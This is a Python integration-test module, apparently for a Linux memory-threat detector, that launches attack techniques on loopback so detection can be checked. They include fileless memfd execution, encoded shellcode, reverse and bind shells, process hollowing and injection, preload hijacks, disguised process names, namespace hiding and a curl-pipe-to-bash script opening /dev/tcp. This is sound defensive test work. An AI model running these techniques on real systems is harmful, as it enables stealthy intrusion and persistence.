@@ -1,0 +1,553 @@
+# Copyright: bulwark.servers contributors
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""How each technique of the table is started. A function has the technique's name, and returns when it is set up."""
+
+from __future__ import annotations
+
+import dataclasses
+import http.server
+import os
+import pathlib
+import shutil
+import socket
+import subprocess
+import threading
+import typing as t
+
+from tests.integration._memory_techniques.bench import PYTHON, Bench, Started, wait_for
+
+if t.TYPE_CHECKING:
+    from tests.fleet.engine import Engine
+
+Start = t.Callable[[Bench], Started]
+
+# 127.0.0.1:4660 as code.S has it in an address.
+_PORT = b"\x02\x00\x12\x34"
+_KEY = 0x5A
+
+
+# Executed from memory, or gone
+
+
+def memfd_program(bench: Bench) -> Started:
+    return bench.run(bench.programs / "memory_file", "data", bench.programs / "wait", "wait")
+
+
+def memfd_from_python(bench: Bench) -> Started:
+    script = bench.programs / "memory_program.py"
+    return bench.run(PYTHON, script, bench.programs / "wait", "/usr/lib/systemd/systemd-logind")
+
+
+def deleted_program(bench: Bench) -> Started:
+    program = _copy(bench, bench.scratch)
+    started = bench.run(program)
+    os.unlink(program)
+    return started
+
+
+def program_in_shared_memory(bench: Bench) -> Started:
+    return bench.run(_copy(bench, _removed_directory(bench, "/dev/shm")))
+
+
+def program_on_tmpfs(bench: Bench) -> Started:
+    place = bench.programs.directory / "mounted"
+    place.mkdir()
+    bench.resources.callback(place.rmdir)
+    subprocess.run(["mount", "-t", "tmpfs", "-o", "mode=0755", "tmpfs", str(place)], check=True)
+    bench.resources.callback(subprocess.run, ["umount", "--lazy", str(place)], check=True)
+    return bench.run(_copy(bench, place))
+
+
+def replaced_program(bench: Bench) -> Started:
+    program = _copy(bench, bench.programs.directory, "service")
+    started = bench.run(program)
+    other = shutil.copy(bench.programs / "leash", bench.programs / "service.new")
+    os.replace(other, program)
+    bench.resources.callback(os.unlink, program)
+    return started
+
+
+def unlinked_descriptor(bench: Bench) -> Started:
+    """Run a file that never had a name (O_TMPFILE)."""
+    descriptor = os.open(bench.programs.directory, os.O_TMPFILE | os.O_RDWR, 0o700)
+    try:
+        os.write(descriptor, pathlib.Path(bench.programs / "wait").read_bytes())
+        # What is open for writing can't be run.
+        reading = os.open(f"/proc/self/fd/{descriptor}", os.O_RDONLY)
+    finally:
+        os.close(descriptor)
+    try:
+        return bench.run(f"/proc/self/fd/{reading}", name="wait", pass_fds=(reading,))
+    finally:
+        os.close(reading)
+
+
+def script_in_memfd(bench: Bench) -> Started:
+    script = "import signal; print('ready', flush=True); signal.pause()"
+    return bench.run(PYTHON, bench.programs / "memory_script.py", PYTHON, script)
+
+
+def script_from_the_network(bench: Bench) -> Started:
+    """Do what "curl | sh" does, with a script that connects back."""
+    port = _listener(bench)
+    script = f"exec 3<>/dev/tcp/127.0.0.1/{port}; echo ready port={port} pid=$$; sleep 1000; true\n".encode()
+    address = _web_server(bench, script)
+    return bench.run("/bin/sh", "-c", f"curl --silent {address}/install.sh | bash")
+
+
+def loader_as_launcher(bench: Bench) -> Started:
+    return bench.run(os.path.realpath("/lib64/ld-linux-x86-64.so.2"), _copy(bench, bench.scratch))
+
+
+# Code where none should be
+
+
+def shellcode_rwx(bench: Bench) -> Started:
+    return _placed(bench, "rwx", "sleep")
+
+
+def shellcode_rx(bench: Bench) -> Started:
+    return _placed(bench, "rx", "sleep")
+
+
+def shellcode_shortest(bench: Bench) -> Started:
+    return _placed(bench, "rx", "wait")
+
+
+def shellcode_execute_only(bench: Bench) -> Started:
+    return _placed(bench, "x", "sleep")
+
+
+def shellcode_deep(bench: Bench) -> Started:
+    return _placed(bench, "deep", "reverse", how="keep")
+
+
+def shellcode_shared(bench: Bench) -> Started:
+    return _placed(bench, "shared", "sleep")
+
+
+def shellcode_as_dotnet(bench: Bench) -> Started:
+    """Give it the place that code of .NET has: a file in memory that is called "doublemapper"."""
+    return _placed(bench, "doublemapper", "reverse", how="keep")
+
+
+def shellcode_mapped_twice(bench: Bench) -> Started:
+    return _placed(bench, "twice", "sleep")
+
+
+def shellcode_on_the_stack(bench: Bench) -> Started:
+    return bench.run(bench.programs / "place-execstack", "stack", bench.programs / "sleep.bin", "run")
+
+
+def shellcode_on_the_heap(bench: Bench) -> Started:
+    return _placed(bench, "heap", "sleep")
+
+
+def shellcode_encoded(bench: Bench) -> Started:
+    """Run a decoder, which stands before what it has decoded."""
+    return _placed(bench, "rwx", bench.code("encoded.bin", _encoded(bench, "sleep")))
+
+
+def shellcode_still_encoded(bench: Bench) -> Started:
+    return _placed(bench, "rwx", bench.code("still.bin", _encoded(bench, "reverse")), how="keep")
+
+
+def shellcode_reverse_shell(bench: Bench) -> Started:
+    return _placed(bench, "rwx", "reverse", how="keep")
+
+
+def shellcode_bind_shell(bench: Bench) -> Started:
+    """Run it: it listens on loopback for somebody who never comes."""
+    port = _free_port()
+    code = bench.code("bind-here.bin", _with_port(bench, "bind", port))
+    started = _placed(bench, "rx", code)
+    wait_for(lambda: _listens(port), "the shellcode to listen")
+    return _with_facts(started, port=str(port))
+
+
+def egg_hunter(bench: Bench) -> Started:
+    code, egg = bench.programs / "hunter.bin", bench.programs / "egg.bin"
+    return bench.run(bench.programs / "place", "rwx", code, "keep", egg)
+
+
+def reverse_shell_running(bench: Bench) -> Started:
+    """Run shellcode that becomes a shell on a connection to this test."""
+    port = _listener(bench)
+    code = bench.code("reverse-here.bin", _with_port(bench, "reverse", port))
+    started = _placed(bench, "rwx", code)
+    wait_for(lambda: _executable(started.pid) == os.path.realpath("/bin/sh"), "the shell")
+    return _with_facts(started, port=str(port))
+
+
+def reflective_library(bench: Bench) -> Started:
+    return bench.run(bench.programs / "reflective", "whole", bench.programs / "library.so")
+
+
+def reflective_library_wiped(bench: Bench) -> Started:
+    return bench.run(bench.programs / "reflective", "wiped", bench.programs / "library.so")
+
+
+def file_mapping_private(bench: Bench) -> Started:
+    return _in_file(bench, "private-file")
+
+
+def file_mapping_shared(bench: Bench) -> Started:
+    return _in_file(bench, "shared-file")
+
+
+# Changed code
+
+
+def inline_hook(bench: Bench) -> Started:
+    return _changed(bench, "hook")
+
+
+def got_overwritten(bench: Bench) -> Started:
+    return _changed(bench, "got")
+
+
+def own_text_patched(bench: Bench) -> Started:
+    return _changed(bench, "text")
+
+
+def vdso_patched(bench: Bench) -> Started:
+    return _changed(bench, "vdso")
+
+
+def hollowed_process(bench: Bench) -> Started:
+    return bench.run(bench.programs / "inject", "hollow", bench.programs / "sleep.bin", "/usr/bin/sleep", "1000")
+
+
+def injected_code(bench: Bench) -> Started:
+    return _injected(bench, bench.sleep(), "run")
+
+
+def injected_into_node(bench: Bench) -> Started:
+    return _injected(bench, node(bench), "keep", "reverse")
+
+
+def injected_into_java(bench: Bench) -> Started:
+    return _injected(bench, java(bench), "keep", "reverse")
+
+
+def node_code_overwritten(bench: Bench) -> Started:
+    return _overwritten(bench, node(bench), "reverse")
+
+
+def java_code_overwritten(bench: Bench) -> Started:
+    return _overwritten(bench, java(bench), "reverse")
+
+
+def luajit_code_overwritten(bench: Bench) -> Started:
+    return _overwritten(bench, luajit(bench), "reverse")
+
+
+def attached_tracer(bench: Bench) -> Started:
+    victim = bench.sleep()
+    tracer = bench.run(bench.programs / "inject", "trace", str(victim.pid))
+    return Started(victim.pid, {"tracer": str(tracer.tree[0])}, (*victim.tree, *tracer.tree))
+
+
+def preloaded_library(bench: Bench) -> Started:
+    library = shutil.copy(bench.programs / "library.so", bench.scratch / "libaudit.so")
+    return bench.run("/usr/bin/sleep", "1000", environment={"LD_PRELOAD": str(library)}, speaks=False)
+
+
+def preloaded_for_all(bench: Bench) -> Started:
+    """Preload a library by the file of the dynamic loader, in a mount namespace of its own."""
+    listed = bench.scratch / "preload"
+    library = shutil.copy(bench.programs / "library.so", bench.programs / "libselinux.so")
+    bench.resources.callback(os.unlink, library)
+    listed.write_text(f"{library}\n")
+    target = pathlib.Path("/etc/ld.so.preload")
+    if not target.exists():
+        # A place to mount over is needed; an empty file changes nothing.
+        target.touch()
+        bench.resources.callback(target.unlink)
+    script = f"mount --bind {listed} {target} && exec setpriv --pdeathsig KILL /usr/bin/sleep 1000"
+    started = bench.run("/usr/bin/unshare", "--mount", "/bin/sh", "-c", f"echo ready; {script}")
+    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
+    return started
+
+
+def library_from_memfd(bench: Bench) -> Started:
+    return bench.run(bench.programs / "loaded", "memfd", bench.programs / "library.so")
+
+
+def library_from_memfd_in_python(bench: Bench) -> Started:
+    return bench.run(PYTHON, bench.programs / "memory_library.py", bench.programs / "library.so")
+
+
+def library_deleted(bench: Bench) -> Started:
+    library = shutil.copy(bench.programs / "library.so", bench.scratch / "plugin.so")
+    return bench.run(bench.programs / "loaded", "deleted", str(library))
+
+
+# Disguise
+
+
+def kernel_thread_name(bench: Bench) -> Started:
+    return bench.run(bench.programs / "wait", "kworker/0:1", name="[kworker/0:1]")
+
+
+def daemon_name(bench: Bench) -> Started:
+    return bench.run(_copy(bench, bench.scratch), name="/usr/sbin/sshd")
+
+
+def packet_socket_disguised(bench: Bench) -> Started:
+    return bench.run(bench.programs / "privilege", "packet", "kworker/u8:2", name="[kworker/u8:2]")
+
+
+def hidden_process(bench: Bench) -> Started:
+    """Hide a process in a pid namespace with a /proc of its own, which is looked at as if it were the host."""
+    host = namespace(bench)
+    hidden = bench.run(*host.prefix, bench.programs / "wait")
+    inside = _pid_inside(hidden.tree[-1])
+    empty = bench.scratch / "empty"
+    empty.mkdir()
+    subprocess.run([*host.prefix, "/bin/mount", "--bind", str(empty), f"/proc/{inside}"], check=True)
+    return Started(inside, {}, (), host.prefix)
+
+
+# Privilege
+
+
+def root_below_nobody(bench: Bench) -> Started:
+    started = bench.run(bench.programs / "privilege", "parent", "/usr/bin/sleep", "1000")
+    wait_for(lambda: _executable(started.pid) == "/usr/bin/sleep", "sleep")
+    return started
+
+
+def capabilities_kept(bench: Bench) -> Started:
+    return bench.run(bench.programs / "privilege", "kept")
+
+
+def bpf_program(bench: Bench) -> Started:
+    return bench.run(bench.programs / "privilege", "bpf")
+
+
+# Known things
+
+
+def miner(bench: Bench) -> Started:
+    return _mining(bench, "/usr/bin/xmrig", "/usr/bin/xmrig")
+
+
+def miner_in_memory(bench: Bench) -> Started:
+    return _mining(bench, bench.programs / "memory_file", "nginx", "/usr/bin/xmrig", "nginx: worker process")
+
+
+# Containers
+
+
+def memfd_in_namespaces(bench: Bench) -> Started:
+    """Run a program from memory as root of new user, pid and mount namespaces, as in a container without root."""
+    unshare = ("/usr/bin/unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount", "--kill-child=KILL")
+    started = bench.run(*unshare, bench.programs / "memory_file", "data", bench.programs / "wait", "wait")
+    return Started(started.tree[-1], started.facts, started.tree)
+
+
+def memfd_in_container(bench: Bench, engine: Engine, image: str) -> Started:
+    name = f"bulwark-techniques-{os.getpid()}"
+    bench.resources.callback(engine, "rm", "--force", name, check=False)
+    arguments = ("--rm", "--detach", "--network=none", "--name", name, image)
+    engine("run", *arguments, "/memory_file", "data", "/wait", "wait")
+    pid = int(engine("inspect", "--format", "{{.State.Pid}}", name))
+    wait_for(lambda: _executable(pid).startswith("/memfd:"), "the program in the container")
+    return Started(pid, {"container": engine("inspect", "--format", "{{.Id}}", name)}, (pid,))
+
+
+# Programs that generate code
+
+
+def node(bench: Bench) -> Started:
+    script = """
+        const add = (a, b) => a + b;
+        let sum = 0;
+        for (let i = 0; i < 3e6; i++) sum = add(sum, i) % 1000003;
+        console.log("ready");
+        setTimeout(() => {}, 120000);
+    """
+    return bench.run(_program("node"), "-e", script)
+
+
+def java(bench: Bench) -> Started:
+    source = bench.scratch / "Busy.java"
+    source.write_text(
+        """
+        public class Busy {
+            static int add(int a, int b) { return (a + b) % 1000003; }
+            public static void main(String[] arguments) throws Exception {
+                int sum = 0;
+                for (int i = 0; i < 30000000; i++) sum = add(sum, i);
+                System.out.println("ready");
+                Thread.sleep(120000);
+            }
+        }
+        """,
+        encoding="utf-8",
+    )
+    return bench.run(_program("java"), "-Xmx128m", str(source))
+
+
+def luajit(bench: Bench) -> Started:
+    script = """
+        local function add(a, b) return (a + b) % 1000003 end
+        local sum = 0
+        for i = 1, 1e7 do sum = add(sum, i) end
+        print("ready")
+        io.stdout:flush()
+        io.read()
+    """
+    reading, writing = os.pipe()
+    bench.resources.callback(os.close, writing)
+    try:
+        return bench.run(_program("luajit"), "-e", script, stdin=reading)
+    finally:
+        os.close(reading)
+
+
+# What the starters share
+
+
+def namespace(bench: Bench) -> Started:
+    """Start a pid namespace with its own /proc and nothing in it but a program that waits: a host to look at whole."""
+    unshare = ("/usr/bin/unshare", "--pid", "--fork", "--mount-proc", "--kill-child=KILL")
+    started = bench.run(*unshare, bench.programs / "wait")
+    enter = ("/usr/bin/nsenter", f"--target={started.tree[-1]}", "--pid", "--mount", "--")
+    return Started(started.tree[-1], started.facts, started.tree, enter)
+
+
+def _with_facts(started: Started, **facts: str) -> Started:
+    return dataclasses.replace(started, facts={**started.facts, **facts})
+
+
+def _copy(bench: Bench, directory: str | os.PathLike[str], name: str = "update") -> str:
+    return str(shutil.copy(bench.programs / "wait", os.path.join(directory, name)))
+
+
+def _removed_directory(bench: Bench, parent: str) -> str:
+    directory = os.path.join(parent, f"bulwark-techniques-{os.getpid()}")
+    os.mkdir(directory)
+    bench.resources.callback(shutil.rmtree, directory)
+    return directory
+
+
+def _placed(bench: Bench, place: str, code: str, how: str = "run") -> Started:
+    """Have code in a place. code: a name of code.S, or the path of a file."""
+    file = code if code.startswith("/") else bench.programs / f"{code}.bin"
+    return bench.run(bench.programs / "place", place, file, how)
+
+
+def _in_file(bench: Bench, place: str) -> Started:
+    code = pathlib.Path(bench.programs / "sleep.bin").read_bytes()
+    return _placed(bench, place, bench.code("cache.dat", code.ljust(8192, b"\0")))
+
+
+def _changed(bench: Bench, what: str) -> Started:
+    return bench.run(bench.programs / "changed", what, bench.programs / "wait.bin")
+
+
+def _injected(bench: Bench, victim: Started, how: str, code: str = "sleep") -> Started:
+    injector = bench.run(bench.programs / "inject", how, str(victim.pid), bench.programs / f"{code}.bin")
+    return Started(victim.pid, injector.facts, victim.tree)
+
+
+def _overwritten(bench: Bench, victim: Started, code: str) -> Started:
+    """Put code into what an engine has generated, which is as executable as before."""
+    address = _generated(victim.pid)
+    file = bench.programs / f"{code}.bin"
+    injector = bench.run(bench.programs / "inject", "over", str(victim.pid), f"{address:x}", file)
+    return Started(victim.pid, injector.facts, victim.tree)
+
+
+def _generated(pid: int) -> int:
+    """Return an address in the largest anonymous executable mapping of a process, after its beginning."""
+    found = []
+    for line in pathlib.Path(f"/proc/{pid}/maps").read_text(encoding="utf-8").splitlines():
+        words = line.split()
+        if "x" in words[1] and words[4] == "0" and len(words) == 5:
+            start, end = (int(word, 16) for word in words[0].split("-"))
+            found.append((end - start, start))
+    size, start = max(found)
+    return start + min(size // 2, 0x3000) + 0x140
+
+
+def _encoded(bench: Bench, code: str) -> bytes:
+    """Return code behind the decoder, which knows its length and the key."""
+    plain = pathlib.Path(bench.programs / f"{code}.bin").read_bytes()
+    decoder = pathlib.Path(bench.programs / "decoder.bin").read_bytes()
+    length = bytes([0x6A, len(plain)])
+    key = bytes([0x80, 0x36, _KEY])
+    return decoder.replace(b"\x6a\x11", length).replace(b"\x80\x36\x22", key) + bytes(byte ^ _KEY for byte in plain)
+
+
+def _with_port(bench: Bench, code: str, port: int) -> bytes:
+    plain = pathlib.Path(bench.programs / f"{code}.bin").read_bytes()
+    return plain.replace(_PORT, _PORT[:2] + port.to_bytes(2, "big"))
+
+
+def _mining(bench: Bench, *command: str) -> Started:
+    """Have Debian's miner compute its own benchmark, without a connection, and change nothing of the kernel for it."""
+    modest = ("--no-huge-pages", "--randomx-wrmsr=-1", "--randomx-no-rdmsr")
+    started = bench.run(*command, "--bench=250K", "--threads=1", "--no-color", *modest, speaks=False)
+    # It has its cache, and fills 2 GB from it with code that it has generated.
+    wait_for(lambda: _resident(started.pid) > 400 << 20, "the miner to begin", 60)
+    return started
+
+
+def _resident(pid: int) -> int:
+    pages = pathlib.Path(f"/proc/{pid}/statm").read_text(encoding="ascii").split()[1]
+    return int(pages) * os.sysconf("SC_PAGESIZE")
+
+
+def _program(name: str) -> str:
+    found = shutil.which(name)
+    assert found is not None, name
+    return os.path.realpath(found)
+
+
+def _executable(pid: int) -> str:
+    return os.readlink(f"/proc/{pid}/exe")
+
+
+def _pid_inside(pid: int) -> int:
+    status = pathlib.Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
+    (line,) = [line for line in status.splitlines() if line.startswith("NSpid:")]
+    return int(line.split()[-1])
+
+
+def _listener(bench: Bench) -> int:
+    """Listen on loopback, and keep what connects, until the technique is ended."""
+    listening = socket.create_server(("127.0.0.1", 0))
+    bench.resources.callback(listening.close)
+    return int(listening.getsockname()[1])
+
+
+def _free_port() -> int:
+    with socket.create_server(("127.0.0.1", 0)) as taken:
+        return int(taken.getsockname()[1])
+
+
+def _listens(port: int) -> bool:
+    wanted = f"0100007F:{port:04X} 00000000:0000 0A"
+    return wanted in pathlib.Path("/proc/net/tcp").read_text(encoding="ascii")
+
+
+def _web_server(bench: Bench, content: bytes) -> str:
+    class Answer(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Length", str(len(content)))
+            self.end_headers()
+            self.wfile.write(content)
+
+        def log_message(self, *_arguments: t.Any) -> None:
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Answer)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    bench.resources.callback(server.server_close)
+    bench.resources.callback(server.shutdown)
+    return f"http://127.0.0.1:{server.server_address[1]}"
